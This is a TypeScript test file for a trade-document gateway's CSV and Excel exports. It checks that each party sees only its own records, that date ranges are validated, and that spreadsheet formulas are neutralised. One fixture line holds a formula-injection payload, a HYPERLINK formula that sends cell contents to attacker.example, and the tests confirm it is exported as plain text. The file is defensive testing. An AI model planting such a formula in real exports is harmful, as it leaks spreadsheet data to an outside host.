import { createHash } from 'node:crypto';
import { expect } from 'chai';
import * as ExcelJS from 'exceljs';
import type { DocumentRecord } from '@counterfoil/chaincode';
import { DATASETS, scopeOf } from '../../gateway/exports/datasets';
import { ExportCursor, writeExport } from '../../gateway/exports/export';
import { type Cell, neutralise } from '../../gateway/exports/tables';
import { csvRows } from '../../adapters/transports/csv';
import { DAY, isoIn, permitRequest, STEEL } from '../conformance/fixtures';
import { type Answer, exercised, GatewayHarness } from './harness';
import { EXPORTER_USCC, OTHER_USCC, type Persona, PERSONAS } from './personas';

const sha256 = (value: string): string => createHash('sha256').update(value).digest('hex');

describe('exports to CSV and Excel', function () {
    this.timeout(120_000);
    let harness: GatewayHarness;
    let tokens = new Map<Persona, string>();
    let licence: DocumentRecord;
    const started = isoIn(-60_000);
    const declarations = { exporter: '220120261900000001', other: '220120261900000002' };
    /** A recipient's reason that a spreadsheet would run as a formula. */
    const hostileText = '=HYPERLINK("http://attacker.example/?"&A1,"见附件")';

    async function as<T = unknown>(persona: Persona, method: string, path: string, body?: unknown): Promise<Answer<T>> {
        return harness.request<T>(method, path, { token: tokens.get(persona), body });
    }

    /** An export's bytes as they were sent (a text decoder would drop the byte-order mark), the answer checked against the OpenAPI document. */
    async function download(persona: Persona, path: string): Promise<{ bytes: Buffer; headers: Headers }> {
        const response = await fetch(`${harness.url}${path}`, { headers: { Authorization: `Bearer ${tokens.get(persona) as string}` } });
        const bytes = Buffer.from(await response.arrayBuffer());
        harness.checkAgainstContract('GET', path, response.status, response.headers.get('content-type') ?? '', undefined);
        expect(response.status, bytes.toString('utf8')).to.equal(200);
        return { bytes, headers: response.headers };
    }

    /** An export as CSV rows, headings first. */
    async function csv(persona: Persona, dataset: string, range = `from=${encodeURIComponent(started)}&to=${encodeURIComponent(isoIn(60_000))}`): Promise<string[][]> {
        const { bytes, headers } = await download(persona, `/v1/exports/${dataset}?${range}`);
        expect(headers.get('content-type')).to.equal('text/csv; charset=utf-8');
        expect([...bytes.subarray(0, 3)], 'a byte-order mark, for spreadsheets to read UTF-8').to.deep.equal([0xef, 0xbb, 0xbf]);
        return csvRows(bytes.subarray(3).toString('utf8'));
    }

    before(async () => {
        harness = await GatewayHarness.start();
        tokens = await harness.personaTokens();
        const issued = await as<DocumentRecord>('commerce', 'POST', '/v1/documents', {
            ...permitRequest({ holder: EXPORTER_USCC, goods: [{ hsCode: STEEL, quantity: 1000, unit: 'TNE' }] }), content: Buffer.from('许可证').toString('base64'),
        });
        expect(issued.status, issued.text).to.equal(201);
        licence = issued.body;
        for (const [persona, number] of Object.entries(declarations)) {
            const holder = persona === 'exporter' ? EXPORTER_USCC : OTHER_USCC;
            const answer = await as('customs', 'POST', '/v1/documents', {
                type: 'EXPORT_DECLARATION', number, holder, validFrom: isoIn(-DAY), validTo: isoIn(DAY), content: Buffer.from(number).toString('base64'),
            });
            expect(answer.status, answer.text).to.equal(201);
        }
        const verified = await as('customs', 'POST', '/v1/verifications', {
            declarationNumber: declarations.exporter, permit: { type: 'LICENCE', number: licence.number }, holder: EXPORTER_USCC, direction: 'EXPORT',
            goods: [{ hsCode: STEEL, quantity: 400, unit: 'TNE' }], declaredAt: isoIn(-30_000), port: '2201',
        });
        expect(verified.status, verified.text).to.equal(200);
        const send = async (messageId: string, recipient: string, subject: string, number: string): Promise<void> => {
            const answer = await as('customs', 'POST', '/v1/handoffs', {
                messageId, recipient, subject, document: { type: 'EXPORT_DECLARATION', number }, payloadHash: sha256(messageId), size: 10,
            });
            expect(answer.status, answer.text).to.equal(201);
        };
        await send('EXP-TAX', 'TaxMSP', EXPORTER_USCC, declarations.exporter);
        await send('EXP-FOREX', 'ForexMSP', EXPORTER_USCC, declarations.exporter);
        await send('OTHER-FOREX', 'ForexMSP', OTHER_USCC, declarations.other);
        expect((await as('tax', 'POST', '/v1/handoffs/CustomsMSP/EXP-TAX/receipt', { payloadHash: sha256('EXP-TAX') })).status).to.equal(200);
        const rejected = await as('tax', 'POST', '/v1/handoffs/CustomsMSP/EXP-TAX/acknowledgement', { decision: 'REJECTED', reasonCode: 'DATA_ERROR', text: hostileText });
        expect(rejected.status, rejected.text).to.equal(200);
        const opened = await as('exporter', 'POST', '/v1/cases', { caseId: 'EXPORT-CASE-1', subject: { kind: 'HANDOFF', sender: 'CustomsMSP', messageId: 'EXP-FOREX' }, reason: 'NOT_RECEIVED' });
        expect(opened.status, opened.text).to.equal(201);
    });

    after(async () => {
        await harness?.stop();
    });

    it('exports every handoff to an auditor, each with its timeline, and neutralises what a spreadsheet would run', async () => {
        const [headings, ...rows] = await csv('auditor', 'handoffs');
        expect(headings).to.deep.equal(DATASETS.handoffs.columns.map((column) => column.en));
        const column = (name: string): number => (headings as string[]).indexOf(name);
        expect(rows.map((row) => row[column('Message id')])).to.deep.equal(['EXP-TAX', 'EXP-FOREX', 'OTHER-FOREX']);
        const toTax = rows[0] as string[];
        expect(toTax[column('Status')]).to.equal('REJECTED');
        expect(toTax[column('Reason code')]).to.equal('DATA_ERROR');
        expect(toTax[column('Reason')], 'text a spreadsheet would run, made plain text').to.equal(`'${hostileText}`);
        expect((toTax[column('Timeline')] as string).split('; ').map((step) => step.split(' ').slice(0, 2).join(' '))).to.deep.equal(['HandoffSent SENT', 'HandoffReceived RECEIVED', 'HandoffRejected REJECTED']);
        expect(toTax[column('Timeline')] as string).to.match(/#\d+$/);
    });

    it('gives an enterprise its own documents, verifications, handoffs and cases only, and an agency what it may list', async () => {
        const numbers = async (persona: Persona, dataset: string, heading: string): Promise<string[]> => {
            const [headings, ...rows] = await csv(persona, dataset);
            return rows.map((row) => row[(headings as string[]).indexOf(heading)] as string).sort();
        };
        expect(await numbers('exporter', 'documents', 'Number')).to.deep.equal([declarations.exporter, licence.number].sort());
        expect(await numbers('other', 'documents', 'Number')).to.deep.equal([declarations.other]);
        expect(await numbers('tax', 'documents', 'Number'), 'every agency sees every document').to.have.length(3);
        expect(await numbers('exporter', 'verifications', 'Declaration')).to.deep.equal([declarations.exporter]);
        expect(await numbers('other', 'verifications', 'Declaration')).to.deep.equal([]);
        expect(await numbers('exporter', 'handoffs', 'Message id')).to.deep.equal(['EXP-FOREX', 'EXP-TAX']);
        expect(await numbers('other', 'handoffs', 'Message id')).to.deep.equal(['OTHER-FOREX']);
        expect(await numbers('tax', 'handoffs', 'Message id'), 'an agency: the handoffs it sends or receives').to.deep.equal(['EXP-TAX']);
        expect(await numbers('forex', 'handoffs', 'Message id')).to.deep.equal(['EXP-FOREX', 'OTHER-FOREX']);
        expect(await numbers('exporter', 'cases', 'Case')).to.deep.equal(['EXPORT-CASE-1']);
        expect(await numbers('other', 'cases', 'Case')).to.deep.equal([]);
        expect(await numbers('tax', 'cases', 'Case'), 'not a party').to.deep.equal([]);
        expect(await numbers('auditor', 'cases', 'Case')).to.deep.equal(['EXPORT-CASE-1']);
    });

    it('exports only what falls in the date range, and refuses a range that ends before it starts', async () => {
        const later = `from=${encodeURIComponent(isoIn(DAY))}&to=${encodeURIComponent(isoIn(2 * DAY))}`;
        expect(await csv('auditor', 'handoffs', later), 'headings only').to.have.length(1);
        const backwards = await as<{ field: string; detail: string }>('auditor', 'GET', `/v1/exports/handoffs?from=${encodeURIComponent(isoIn(0))}&to=${encodeURIComponent(started)}`);
        expect(backwards.status).to.equal(400);
        expect(backwards.body.field).to.equal('to');
        const missing = await as<{ field: string }>('auditor', 'GET', `/v1/exports/handoffs?from=${encodeURIComponent(started)}`);
        expect(missing.status).to.equal(400);
        expect(missing.body.field).to.equal('to');
        expect((await as('auditor', 'GET', `/v1/exports/webhooks?from=${encodeURIComponent(started)}&to=${encodeURIComponent(isoIn(0))}`)).status).to.equal(400);
        expect((await harness.request('GET', `/v1/exports/handoffs?from=${encodeURIComponent(started)}&to=${encodeURIComponent(isoIn(0))}`)).status).to.equal(401);
    });

    it('writes an Excel workbook with Chinese headings, as a download, with formulas turned into text', async () => {
        const { bytes, headers } = await download('exporter', `/v1/exports/handoffs?from=${encodeURIComponent(started)}&to=${encodeURIComponent(isoIn(60_000))}&format=xlsx&lang=zh`);
        expect(headers.get('content-type')).to.equal('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
        expect(headers.get('content-disposition')).to.match(/^attachment; filename="counterfoil-handoffs-\d{4}-\d{2}-\d{2}-\d{4}-\d{2}-\d{2}\.xlsx"$/);
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length) as ArrayBuffer);
        const sheet = workbook.getWorksheet('Handoffs');
        const values = (row: number): unknown[] => (sheet?.getRow(row).values as unknown[]).slice(1);
        expect(values(1)).to.deep.equal(DATASETS.handoffs.columns.map((column) => column.zh));
        expect(sheet?.rowCount).to.equal(3);
        const reason = values(2)[DATASETS.handoffs.columns.findIndex((column) => column.en === 'Reason')];
        expect(reason, 'a string cell, not a formula').to.equal(`'${hostileText}`);
        expect(values(2)[DATASETS.handoffs.columns.findIndex((column) => column.en === 'Retransmissions')], 'numbers stay numbers').to.equal(0);
    });

    it('reads the rows a batch at a time from one cursor, the same rows in the same order as at once', async () => {
        const read = async (fetchRows: number): Promise<Cell[][]> => {
            const written: Cell[][] = [];
            const batches: number[] = [];
            const handoffs = DATASETS.handoffs;
            const cursor = await ExportCursor.open(harness.database.pool, { sql: handoffs.sql, values: handoffs.values(scopeOf(PERSONAS.auditor, started, isoIn(60_000))), cells: handoffs.cells }, fetchRows);
            const count = await writeExport(cursor, { rows: async (rows) => { batches.push(rows.length); written.push(...rows); }, end: async () => undefined });
            expect(count).to.equal(written.length);
            expect(Math.max(...batches)).to.be.at.most(fetchRows);
            return written;
        };
        const once = await read(1000);
        expect(once).to.have.length(3);
        expect(await read(1)).to.deep.equal(once);
        const idle = await harness.database.pool.query<{ count: string }>("SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'");
        expect(Number(idle.rows[0]?.count), 'each export ends its transaction').to.equal(0);
    });

    it('neutralises every formula start a spreadsheet knows, and nothing else', () => {
        for (const start of ['=', '+', '-', '@', '\t', '\r']) {
            expect(neutralise(`${start}1+1`)).to.equal(`'${start}1+1`);
        }
        expect(neutralise('1+1')).to.equal('1+1');
        expect(neutralise(-5), 'a number is not text').to.equal(-5);
        expect(neutralise(null)).to.equal(null);
    });

    it('has exercised the export route, each answer checked against the OpenAPI document', () => {
        const seen = new Set([...exercised].map((entry) => entry.split(' ').slice(0, 3).join(' ')));
        expect(['GET /v1/exports/{dataset} 200', 'GET /v1/exports/{dataset} 400', 'GET /v1/exports/{dataset} 401'].filter((entry) => !seen.has(entry))).to.deep.equal([]);
    });
});
